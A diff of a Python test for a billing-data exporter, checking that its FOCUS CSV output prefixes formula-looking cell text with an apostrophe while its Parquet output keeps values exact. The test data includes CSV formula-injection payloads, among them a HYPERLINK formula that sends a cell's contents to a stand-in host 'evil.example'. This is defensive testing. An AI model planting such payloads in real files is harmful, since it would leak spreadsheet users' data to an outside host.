@@ -477,17 +477,22 @@ def exported_lines(tmp_path, columns: dict[str, str], values: str, names: str, s
     return duckdb.sql(f"SELECT {select} FROM {data} ORDER BY ALL").fetchall()
 
 
-def test_the_focus_csv_keeps_formula_looking_cells_and_negative_costs_exact(tmp_path):
-    """The FOCUS CSV is data for FinOps tools, not a spreadsheet report: a bill's text that a
-    spreadsheet would run (`=HYPERLINK(...)`, `@SUM`, `+`, `-`) is written as the bill says it,
-    as a negative cost is, so every reader reads the lake's values (README, Export)."""
-    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+cmd", "-2+3"]
-    lines = exported_lines(tmp_path, {
-        "ProviderName": "'AWS'", "ServiceName": "'Compute'", "ChargeCategory": "'Usage'", "ResourceId": "rid",
-        "ResourceName": "name", "BilledCost": "billed", "EffectiveCost": "billed",
-    }, ", ".join(f"('r{i}', '{text.replace(chr(39), chr(39) * 2)}', '-1.5')" for i, text in enumerate(hostile)),
-       "rid, name, billed", "ResourceName, BilledCost", csv=True)
-    assert lines == sorted((text, "-1.500000000000") for text in hostile)
+def test_the_focus_csv_neutralises_formula_looking_text_and_keeps_costs_exact_and_the_parquet_keeps_both(tmp_path):
+    """A bill's text that a spreadsheet would run (`=HYPERLINK(...)`, `@SUM`, `+`, `-`, a tab or CR
+    first, after blanks) went into the FOCUS CSV as it was, where the report's CSVs and `attribute
+    --format csv` prefix `'`: the CSV prefixes it too, in the tags' own x_ columns of an attributed
+    export as well; a cost is never altered (a number, so a negative one stays negative). The
+    Parquet export keeps every value exact (README, Export)."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+cmd", "-2+3", "\tx", "\r=1", "ok"]
+    columns = {"ProviderName": "'AWS'", "ServiceName": "'Compute'", "ChargeCategory": "'Usage'", "ResourceId": "rid",
+               "ResourceName": "name", "BilledCost": "billed", "EffectiveCost": "billed", "Tags": "MAP {'team': name}"}
+    values = ", ".join(f"('r{i}', '{text.replace(chr(39), chr(39) * 2)}', '-1.5')" for i, text in enumerate(hostile))
+    attribution = {"dimensions": {"team": {"tags": ["team"]}}}
+    for csv, out in ((True, "csv"), (False, "parquet")):
+        lines = exported_lines(tmp_path / out, columns, values, "rid, name, billed", "ResourceName, x_team, BilledCost",
+                               csv=csv, attribution=attribution)
+        shown = [("'" + text if csv and text != "ok" else text) for text in hostile]
+        assert lines == sorted((text, text, "-1.500000000000" if csv else Decimal("-1.5")) for text in shown)
 
 
 def test_the_focus_csv_writes_plain_exact_decimals_never_an_exponent(tmp_path):
